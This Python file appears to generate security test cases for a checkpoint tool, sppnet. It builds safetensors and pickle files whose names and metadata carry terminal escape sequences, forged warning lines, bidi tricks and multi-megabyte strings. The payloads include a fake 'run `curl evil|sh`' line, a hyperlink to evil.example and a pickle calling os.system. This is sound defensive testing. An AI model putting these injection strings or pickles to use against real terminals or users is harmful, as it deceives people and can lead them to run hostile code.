"""Terminal-injection cases: control characters and very long strings in names and errors."""

import json
import os

import torch
from safetensors.torch import save_file

from .asm import (
    STACK_GLOBAL, BUILD, EMPTY_DICT, EMPTY_TUPLE, FALSE, MARK, NEWOBJ, POP, PROTO2, SETITEM, SETITEMS, STOP, g, get,
    i, odict, put, s, tensor,
)
from .base import GenBase, TINY
from .formats import CONV_STORAGES, archive, png_bytes


# Lines a name must never forge (every terminal case checks its output for them).
FORBID = ["WARNING: references posix.system", "WARNING: FORGED", "error: FORGED", "FORGED"]


class TerminalCases(GenBase):
    """Control characters and huge strings that sppnet may echo (`terminal`)."""

    # -- terminal injection ---------------------------------------------------------------------
    def terminal(self):
        cls = "terminal"
        evil = {
            "csi": "conv\x1b[31mRED\x1b[2J\x1b[0m.weight",
            "osc-title": "x\x1b]0;sppnet pwned\x07y",
            "osc8-link": "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
            "bel": "bell\x07\x07\x07",
            "cr-overwrite": "harmless\rWARNING: references os.system: torch.load(weights_only=False) would call it",
            "fake-line": "ok\nWARNING: references posix.system: run `curl evil|sh` to clean it",
            "c1-csi": "x\u009b31my",
            "bidi": "abc\u202etxt.exe",
            "nul": "a\x00b",
            "fake-error": "ok\nerror: FORGED the checkpoint is safe",
            "fake-lines": "a\nFORGED 0.999 [1.0, 2.0, 3.0, 4.0]\u2028WARNING: FORGED\r\nerror: FORGED",
        }
        for k, v in evil.items():
            p = self.path(f"term/st-name-{k}.safetensors")
            os.makedirs(os.path.dirname(p), exist_ok=True)
            save_file({v: torch.zeros(2), "conv1.weight": torch.zeros(1, 3, 4, 4)}, p,
                      metadata={v: v, "sppnet.class": v})
            self.case(f"term/st-name-{k}/inspect", cls, ["inspect", p], "success",
                      f"safetensors tensor name, metadata key and value {v!r}", no_ctrl=True, forbid_lines=FORBID)
            self.case(f"term/st-name-{k}/port", cls, ["port", p, "-o", "{OUT}"], "error",
                      f"port of a file with tensor named {v!r}", no_ctrl=True, forbid_lines=FORBID)
            self.case(f"term/st-name-{k}/forward", cls, ["forward", "--weights", p, p, "-o", "{OUT}"], "error",
                      f"forward with weights holding {v!r}", no_ctrl=True, forbid_lines=FORBID)
            p2 = self.path(f"term/st-meta-arch-{k}.safetensors")
            save_file({"x": torch.zeros(1)}, p2, metadata={"sppnet.arch": v, "sppnet.config": "{}"})
            self.case(f"term/st-meta-arch-{k}/forward", cls, ["forward", "--weights", p2, p2, "-o", "{OUT}"], "error",
                      f"sppnet.arch metadata {v!r} (echoed in the error?)", no_ctrl=True, forbid_lines=FORBID)
            p2 = self.path(f"term/st-meta-act-{k}.safetensors")
            save_file({"x": torch.zeros(1)}, p2,
                      metadata={"sppnet.arch": "conv", "sppnet.config": json.dumps({"c1": 3, "c2": 8, "act": v})})
            self.case(f"term/st-meta-act-{k}/port", cls, ["port", p2, "-o", "{OUT}"], "error",
                      f"Conv act {v!r} in the config", no_ctrl=True, forbid_lines=FORBID)
            # torch.save pickles: root dict key, module class name, attribute key, tensor name.
            pkl = PROTO2 + EMPTY_DICT + s(v) + i(1) + SETITEM + STOP
            p = self.write(f"term/pt-key-{k}.pt", archive(pkl))
            self.case(f"term/pt-rootkey-{k}/inspect", cls, ["inspect", p], "success", f"root dict key {v!r}",
                      no_ctrl=True, forbid_lines=FORBID)
            self.case(f"term/pt-rootkey-{k}/port", cls, ["port", p, "-o", "{OUT}"], "error", f"root dict key {v!r}",
                      no_ctrl=True, forbid_lines=FORBID)
            cls_name = v.replace("\n", " ").replace("\x00", " ")
            pkl = PROTO2 + g("ultralytics.nn.modules.block", cls_name) + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + MARK \
                + s("_modules") + EMPTY_DICT + s("_parameters") + EMPTY_DICT + s(v) + s(v) + s("training") + FALSE \
                + SETITEMS + BUILD + STOP
            p = self.write(f"term/pt-class-{k}.pt", archive(pkl))
            self.case(f"term/pt-class-{k}/inspect", cls, ["inspect", p], "success",
                      f"module class name and attribute {v!r}", no_ctrl=True, forbid_lines=FORBID)
            self.case(f"term/pt-class-{k}/port", cls, ["port", p, "-o", "{OUT}"], "error",
                      f"module class name {v!r} (port names the class in its error)", no_ctrl=True, forbid_lines=FORBID)
            p = self.write(f"term/pt-sdname-{k}.pt", archive(
                PROTO2 + odict([(s(v), tensor("0", 24, [8, 3, 1, 1]))]) + STOP, {"0": CONV_STORAGES["0"]}))
            self.case(f"term/pt-sdname-{k}/inspect", cls, ["inspect", p], "success", f"state_dict key {v!r}",
                      no_ctrl=True, forbid_lines=FORBID)
            self.case(f"term/pt-sdname-{k}/port", cls, ["port", p, "-o", "{OUT}", "--arch", "conv"], "error",
                      f"state_dict key {v!r}", no_ctrl=True, forbid_lines=FORBID)
            p = self.write(f"term/pt-storagekey-{k}.pt", archive(
                PROTO2 + odict([(s("conv.weight"), tensor(v, 24, [8, 3, 1, 1]))]) + STOP, {}))
            self.case(f"term/pt-storagekey-{k}/port", cls, ["port", p, "-o", "{OUT}"], "error",
                      f"missing storage named {v!r}", no_ctrl=True, forbid_lines=FORBID)
            # Module path given on the command line, echoed back.
            if "\x00" not in v:
                self.case(f"term/cli-module-{k}", cls,
                          ["port", self.path("zip/control-benign.pt"), "-o", "{OUT}", "--module", v], "error",
                          f"--module {v!r}", no_ctrl=True, forbid_lines=FORBID)
        # A global whose name holds line breaks (STACK_GLOBAL takes any string): inspect's WARNING
        # line names it, escaped, on that one line.
        for k in ("fake-error", "fake-lines"):
            pkl = PROTO2 + s("os") + s("system" + evil[k]) + STACK_GLOBAL + s("echo") + b"\x85" + b"R" + STOP
            p = self.write(f"term/pt-global-{k}.pt", archive(pkl))
            self.case(f"term/pt-global-{k}/inspect", cls, ["inspect", p], "success",
                      f"a called global named {'system' + evil[k]!r}", no_ctrl=True, forbid_lines=FORBID, warn=True)
            self.case(f"term/pt-global-{k}/port", cls, ["port", p, "-o", "{OUT}"], "error",
                      "same, port (refused, naming the global)", no_ctrl=True, forbid_lines=FORBID)
        # Image file names with escapes (infer prints paths).
        d = self.path("term/images")
        os.makedirs(d, exist_ok=True)
        for k in ("csi", "osc-title", "cr-overwrite", "fake-line"):
            self.write(f"term/images/{evil[k].replace('/', '_')}.png", b"")
        self.write("term/images/ok.png", png_bytes(64, 64))
        self.case("term/infer-filenames", cls, ["infer", "--weights", TINY, "--device", "cpu", d], "error",
                  "a folder of images whose file names carry escape sequences, CR and newlines "
                  "(unreadable, reported by path)", no_ctrl=True, forbid_lines=FORBID)
        self.case("term/infer-filenames-json", cls, ["infer", "--weights", TINY, "--device", "cpu", "--json", d],
                  "error", "same, --json", no_ctrl=True, forbid_lines=FORBID)
        # Very long strings: a 1.9 MB tensor name / metadata value / dict key, and one string
        # echoed 12 times by an error message.
        long = "A" * 1_900_000
        p = self.path("term/long-name.safetensors")
        save_file({long[:1_800_000] + "\x1b[2J": torch.zeros(1)}, p)
        self.case("term/long-tensor-name/inspect", cls, ["inspect", p], "success", "1.8 MB tensor name (+ ESC[2J)",
                  no_ctrl=True, forbid_lines=FORBID)
        self.case("term/long-tensor-name/port", cls, ["port", p, "-o", "{OUT}"], "error",
                  "1.8 MB tensor name: how long is the error line?", no_ctrl=True, forbid_lines=FORBID)
        p = self.path("term/long-config.safetensors")
        save_file({"x": torch.zeros(1)}, p,
                  metadata={"sppnet.arch": "conv", "sppnet.config": json.dumps({"c1": 3, "c2": 8, "act": long})})
        self.case("term/long-config-act/forward", cls, ["forward", "--weights", p, p, "-o", "{OUT}"], "error",
                  "1.9 MB `act` value in sppnet.config (the brief's 10 MB config value, "
                  "kept under the 2 MB file limit)")
        self.case("term/long-config-act/port", cls, ["port", p, "-o", "{OUT}"], "error", "same, port")
        p = self.path("term/long-arch.safetensors")
        save_file({"x": torch.zeros(1)}, p, metadata={"sppnet.arch": long, "sppnet.config": "{}"})
        self.case("term/long-arch/forward", cls, ["forward", "--weights", p, p, "-o", "{OUT}"], "error",
                  "1.9 MB sppnet.arch value")
        pkl = PROTO2 + s(long) + put(1) + POP + EMPTY_DICT + MARK + b"".join(s(f"k{n}") + get(1) for n in range(12)) \
            + SETITEMS + STOP
        p = self.write("term/long-echo12.pt", archive(pkl))
        self.case("term/long-echo12/port", cls, ["port", p, "-o", "{OUT}"], "error",
                  "a 1.9 MB string memo-referenced by 12 dict values: the 'no module or state_dict found' error "
                  "describes 12 entries (~23 MB line?)")
        self.case("term/long-echo12/inspect", cls, ["inspect", p], "success",
                  "same, inspect (12 × 1.9 MB values described)")
